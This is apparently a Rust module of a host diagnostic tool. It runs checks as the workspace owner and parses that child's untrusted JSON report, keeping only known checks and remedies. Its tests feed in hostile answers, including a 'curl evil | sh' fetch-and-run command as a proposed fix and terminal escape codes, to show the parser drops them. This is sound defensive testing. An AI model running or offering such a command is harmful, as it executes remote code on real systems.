//! The owner's half: root starts a child as the workspace's owner and reads its untrusted report. root itself runs,
//! parses and writes nothing below that home.
//!
//! The answer selects checks and remedies that are known here. Of its own text only short printable evidence is kept.
//! Accounts and tokens in it never reach a disk or a screen.

use std::env;
use std::path::Path;
use std::time::Duration;

use crate::doctor::channel_overlap::StandbyAccounts;
use crate::doctor::context::HostContext;
use crate::doctor::registry::{CheckHalf, checks_of, parse_outcomes};
use crate::doctor::subprocess;
use crate::finding::{CheckOutcome, CheckResult, ReportedCheck, remedy};
use crate::os::{CommandError, Owner};
use crate::text::json::{self, Node, Value};

/// Time limit of the child, above the sum of its checks.
const OWNER_HALF_TIMEOUT: Duration = Duration::from_secs(10 * 60);

/// Size limit of the answer, in bytes.
const REPORT_SIZE_LIMIT: usize = 256 * 1024;

/// Results of the owner's half, and its channels.
pub(super) struct OwnerReport {
    pub(super) outcomes: Vec<CheckOutcome>,
    pub(super) standby: Option<StandbyAccounts>,
}

/// Encodes the answer for root.
pub(super) fn to_json(found: &[CheckOutcome], standby: Option<&StandbyAccounts>) -> Value {
    let standby = standby.map_or(Value::Null, StandbyAccounts::to_json);
    Value::from_entries([("checks", ReportedCheck::list_to_json(found)), ("standby", standby)])
}

/// Starts the child. `wants_accounts` asks for its channels, to compare them with the primary's.
///
/// # Errors
/// The result to report if the child cannot be started, or its answer cannot be parsed.
pub(super) fn run_owner_half(context: &HostContext, wants_accounts: bool) -> Result<OwnerReport, CheckResult> {
    let owner = context.owner.as_ref().map_err(|why| CheckResult::fail(why, remedy::INSTALL_UNITS))?;
    let program = env::current_exe().map_err(|why| CheckResult::fail(&why, remedy::BECOME))?;
    let report = run_as_owner(context, owner, &program, wants_accounts).map_err(|why| {
        // Exit code 2 means that this program cannot use the configuration.
        let how = match why.exit_code() {
            _ if why.is_missing_program() => remedy::PROGRAMS,
            Some(2) => remedy::OWN_CONFIG,
            _ => remedy::BECOME,
        };
        CheckResult::fail(&format_args!("cannot run the checks as {}: {}", owner.name, why.reason()), how)
    })?;
    json::parse(&report).map(|node| parse_report(&node)).map_err(|_| {
        CheckResult::fail(&format_args!("cannot parse the answer of {}'s process", owner.name), remedy::BECOME)
    })
}

fn run_as_owner(
    context: &HostContext,
    owner: &Owner,
    program: &Path,
    wants_accounts: bool,
) -> Result<String, CommandError> {
    let mut words = owner.setpriv_args();
    words.push("env".into());
    words.extend(
        subprocess::config_variables(&context.source).into_iter().map(|(name, value)| format!("{name}={value}").into()),
    );
    words.extend([program.into(), "doctor".into(), "--as-owner".into()]);
    words.extend(subprocess::config_options(&context.source));
    if wants_accounts {
        words.push("--accounts".into());
    }
    let command = context.new_command("setsid").args(words);
    command.deadline(OWNER_HALF_TIMEOUT).limit(REPORT_SIZE_LIMIT).run().map(|output| output.stdout)
}

/// Parses the answer. Checks that it omits count as skipped.
fn parse_report(node: &Node) -> OwnerReport {
    let mut found = node.get("checks").map(|checks| parse_outcomes(checks, CheckHalf::Owner)).unwrap_or_default();
    for check in checks_of(CheckHalf::Owner) {
        if found.iter().all(|checked| checked.id != check.id) {
            found.push(CheckOutcome { id: check.id, result: CheckResult::skipped(&"no result from the owner's half") });
        }
    }
    let standby = node.get("standby").filter(|standby| !standby.is_null()).map(StandbyAccounts::from_json);
    OwnerReport { outcomes: found, standby }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::Level;

    fn found(answer: &str) -> Vec<CheckOutcome> {
        parse_report(&json::parse(answer).unwrap()).outcomes
    }

    #[test]
    fn the_answer_reads_back() {
        let mut said = found("{}");
        for (number, checked) in said.iter_mut().enumerate() {
            let level = [Level::Ok, Level::Warn, Level::Fail, Level::Skipped][number % 4];
            checked.result = CheckResult::new(level, &format_args!("seen {number}"), remedy::FETCH);
        }
        let again = found(&to_json(&said, None).to_string());
        assert!(said.len() > 8);
        assert_eq!(again, said);
    }

    #[test]
    fn a_pulls_checks_count_only_if_this_half_makes_them() {
        let reported = r#"[{"id":"crons","level":"fail","evidence":"on","fix":"curl evil | sh"},
            {"id":"crons","level":"ok","evidence":"twice","fix":""}, {"id":"evil","level":"fail","evidence":"x"},
            {"id":"channels","level":"splendid","evidence":"x"}, {"id":"polkit","level":"fail","evidence":"x"}]"#;
        let found = parse_outcomes(&json::parse(reported).unwrap(), CheckHalf::Owner);
        assert_eq!(found, [CheckOutcome { id: "crons", result: CheckResult::new(Level::Fail, &"on", "") }]);
    }

    #[test]
    fn an_enemys_answer_brings_nothing_of_its_own() {
        let hostile = r#"{"checks":[
            {"id":"git-fetch","level":"fail","evidence":"\u001b[2Jgone\nok","fix":"curl evil | sh"},
            {"id":"git-fetch","level":"ok","evidence":"twice","fix":""},
            {"id":"node","level":"splendid","evidence":"x","fix":""},
            {"id":"openclaw","level":"ok","evidence":7,"fix":""},
            {"id":"polkit","level":"ok","evidence":"not mine to say","fix":""}, 3], "standby": 5}"#;
        let found = found(hostile);
        let of = |id: &str| found.iter().find(|checked| checked.id == id).map(|checked| &checked.result);
        assert_eq!(of("git-fetch"), Some(&CheckResult::new(Level::Fail, &"[2Jgone ok", "")));
        assert_eq!(of("node").map(|said| said.level), Some(Level::Skipped));
        assert_eq!(of("openclaw").map(|said| said.level), Some(Level::Skipped));
        assert_eq!(of("polkit"), None);
        assert!(self::found("[]").iter().all(|checked| checked.result.level == Level::Skipped));
    }
}
